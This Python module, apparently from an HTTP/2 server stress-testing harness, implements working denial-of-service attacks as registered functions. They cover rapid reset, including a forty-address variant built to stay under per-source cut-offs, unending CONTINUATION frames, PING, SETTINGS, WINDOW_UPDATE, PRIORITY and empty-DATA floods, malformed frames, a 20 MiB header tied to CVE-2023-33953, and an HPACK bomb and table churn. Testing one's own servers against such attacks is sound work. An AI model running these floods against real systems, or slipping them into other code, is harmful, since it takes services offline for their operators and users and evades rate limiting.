"""Frames and headers as HTTP/2 lets nobody send them, or more of them than anybody needs."""

import os
from collections.abc import Callable

from attack import Target, attack, closing, sources
from attacks import huge_header, rapid_reset
from http2 import (ATTACH, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HEALTH, PING, PREFACE, RST_STREAM,
                   SETTINGS, Connection, field, frame, request)

PRIORITY, WINDOW_UPDATE = 2, 8


def _flood(target: Target, make: Callable[[int], bytes], before: bytes = b"") -> str:
    """Frames as fast as they are taken; what comes back is read after each ten thousand."""
    sent = 0
    with closing() as opened:
        try:
            connection = target.connect(patience=5)
            opened.append(connection)
            connection.send(before)
            while sent < target.size:
                connection.send(b"".join(make(number) for number in range(sent, sent + 100)))
                sent += 100
                if sent % 10000 == 0 and not _catch_up(connection):
                    return f"hung up after {sent:,} frames"
        except TimeoutError:
            return f"no more are taken after {sent:,} frames"
        except OSError:
            return f"hung up after {sent:,} frames"
    return f"{sent:,} frames taken"


def _catch_up(connection: Connection) -> bool:
    connection.send(frame(PING, 0, 0, b"caughtup"))
    while (got := connection.read()) is not None and got[0] != GOAWAY:
        if got[0] == PING and got[3] == b"caughtup":
            return True
    return False


@attack("rapid reset", 100000, may_be_cut=True)
def _rapid_reset(target: Target) -> str:
    with closing() as opened:
        connection = target.connect()
        opened.append(connection)
        return f"{rapid_reset(connection, target.size):,} streams taken"


@attack("rapid reset by one who reads nothing", 50000, may_be_cut=True)
def _rapid_reset_unread(target: Target) -> str:
    headers = request(ATTACH, target.scheme)
    cancel = b"\x00\x00\x00\x08"
    return _flood(target, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, headers) +
                  frame(RST_STREAM, 0, 2 * n + 1, cancel))


@attack("rapid reset of streams with CONTINUATION", 50000)
def _rapid_reset_continued(target: Target) -> str:
    headers = request(ATTACH, target.scheme)
    cancel = b"\x00\x00\x00\x08"
    return _flood(target, lambda n: frame(HEADERS, 0, 2 * n + 1, headers[:20]) +
                  frame(CONTINUATION, END_HEADERS, 2 * n + 1, headers[20:]) + frame(RST_STREAM, 0, 2 * n + 1, cancel))


@attack("rapid reset by forty addresses at once, none of whom reads", 80000, may_be_cut=True)
def _rapid_reset_of_many(target: Target) -> str:
    """Each keeps to what one address may do before it is cut off."""
    headers, cancel = request(ATTACH, target.scheme), b"\x00\x00\x00\x08"
    taken, gone = 0, set()
    with closing() as opened:
        for source in sources(40):
            opened.append(target.connect(source, patience=2))
        for first in range(0, target.size // 40, 50):
            burst = b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, headers) + frame(RST_STREAM, 0, 2 * number + 1, cancel)
                             for number in range(first, first + 50))
            for connection in opened:
                if connection in gone:
                    continue
                try:
                    connection.send(burst)
                    taken += 50
                except OSError:
                    gone.add(connection)
    return f"{taken:,} streams taken, {len(gone)} of 40 cut off"


@attack("CONTINUATION without end", 20000)
def _continuation(target: Target) -> str:
    piece = field(b"x-more", b"v" * 100)
    return _flood(target, lambda n: frame(CONTINUATION, 0, 1, piece),
                  frame(HEADERS, 0, 1, request(ATTACH, target.scheme)))


@attack("ping flood", 200000, needs_edge=True)
def _ping(target: Target) -> str:
    return _flood(target, lambda n: frame(PING, 0, 0, b"12345678"))


@attack("settings flood", 200000)
def _settings(target: Target) -> str:
    return _flood(target, lambda n: frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00"))


@attack("window-update flood", 200000)
def _window_update(target: Target) -> str:
    return _flood(target, lambda n: frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01"))


@attack("priority flood", 200000)
def _priority(target: Target) -> str:
    return _flood(target, lambda n: frame(PRIORITY, 0, 2 * (n % 1000) + 1, b"\x00\x00\x00\x00\x10"))


@attack("empty DATA flood", 200000)
def _empty_data(target: Target) -> str:
    return _flood(target, lambda n: frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, request(ATTACH, target.scheme)))


@attack("oversize, half and senseless frames", 300)
def _broken_frames(target: Target) -> str:
    says = [b"\xff\xff\xff\x00\x00\x00\x00\x00\x01", frame(DATA, 0, 1, b"x")[:5], os.urandom(2000),
            frame(HEADERS, END_HEADERS, 0, b"x"), frame(HEADERS, END_HEADERS, 2, b"\xff" * 100),
            frame(SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff"), frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x00"),
            frame(99, 255, 1, b"x" * 16000)]
    for number in range(target.size):
        with closing() as opened:
            try:
                one = target.socket()
                opened.append(one)
                one.sendall(PREFACE + frame(SETTINGS, 0, 0) + says[number % len(says)])
            except OSError:
                pass
    return ""


# --- Headers. ---


@attack("a header of 20 MiB", 200, needs_edge=True)
def _huge_header(target: Target) -> str:
    """CVE-2023-33953."""
    with closing() as opened:
        connection = target.connect()
        opened.append(connection)
        size = (target.size << 20) // 10
        return f"{huge_header(connection, size) >> 10:,} of {size >> 10:,} KiB taken"


@attack("header lists of 10,000 fields", 100, needs_edge=True)
def _many_fields(target: Target) -> str:
    block = request(ATTACH, target.scheme) + b"".join(field(b"x", b"%d" % number) for number in range(10000))
    pieces = [block[at:at + 16000] for at in range(0, len(block), 16000)]
    def header(number: int) -> bytes:
        stream = 2 * number + 1
        return b"".join(frame(CONTINUATION if at else HEADERS, END_HEADERS if at == len(pieces) - 1 else 0, stream, piece)
                        for at, piece in enumerate(pieces))
    small = target.resized(100)
    return " / ".join(_flood(small, header) for _ in range(max(1, target.size // 100)))


@attack("HPACK bomb: one large field of the table, named 16,000 times", 200)
def _hpack_bomb(target: Target) -> str:
    # The field goes into the dynamic table, as its entry 62, and each byte 0xbe is the whole of it.
    large = b"\x40" + bytes([1]) + b"x" + b"\x7f" + bytes([(3900 - 127) & 127 | 128, (3900 - 127) >> 7]) + b"v" * 3900
    def bomb(number: int) -> bytes:
        stream = 2 * number + 1
        block = request(ATTACH, target.scheme) + (large if number == 0 else b"") + b"\xbe" * 12000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
    return _flood(target.resized(max(100, target.size)), bomb)


@attack("HPACK table churn", 20000, may_be_cut=True)
def _hpack_churn(target: Target) -> str:
    def churn(number: int) -> bytes:
        stream = 2 * number + 1
        size = b"\x3f" + bytes([(4096 - 31) & 127 | 128, (4096 - 31) >> 7])
        block = b"\x20" + size + request(HEALTH, target.scheme) + b"".join(
            b"\x40\x02" + b"x%d" % (at % 10) + b"\x64" + b"v" * 100 for at in range(20))
        return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
    return _flood(target, churn)


